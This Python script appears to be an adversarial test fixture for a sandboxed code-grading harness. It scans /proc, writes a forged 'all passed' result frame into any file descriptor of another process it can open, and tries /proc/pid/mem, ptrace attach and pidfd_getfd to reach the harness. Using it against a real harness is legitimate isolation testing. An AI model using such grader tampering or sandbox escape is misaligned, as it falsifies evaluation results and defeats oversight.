# Hostile candidate: run only inside the sandbox. Tries to reach the worker's own channels to
# the harness: its descriptors and memory through /proc, ptrace, process_vm_writev, pidfd_getfd;
# writes a forged "all passed" reply into everything it manages to open. Prints what worked.
import ctypes
import json
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
reply = json.dumps({"runs": [[0, "ok", "forged", 0.0, ""]], "wrapped": False}).encode()
FRAME = len(reply).to_bytes(4, "big") + reply
worked = []
# Itself: its pid, and (its test processes in a pid namespace below the /proc's) its pid in /proc.
me = {os.getpid(), int(os.readlink("/proc/self"))}
pids = sorted(({int(p) for p in os.listdir("/proc") if p.isdigit()} | {1, os.getppid()}) - me)
for pid in pids:
    for fd in range(64):
        try:
            handle = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
        except OSError:
            continue
        try:
            os.write(handle, FRAME)
            worked.append(f"wrote /proc/{pid}/fd/{fd}")
        except OSError:
            pass
        finally:
            os.close(handle)
    try:
        with open(f"/proc/{pid}/mem", "r+b", buffering=0):
            worked.append(f"opened /proc/{pid}/mem")
    except OSError:
        pass
    if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
        worked.append(f"ptrace attach {pid}")
    pidfd = libc.syscall(434, pid, 0)  # pidfd_open
    if pidfd >= 0:
        for fd in range(64):
            if libc.syscall(438, pidfd, fd, 0) >= 0:  # pidfd_getfd
                worked.append(f"pidfd_getfd {pid} {fd}")
print(json.dumps(worked))
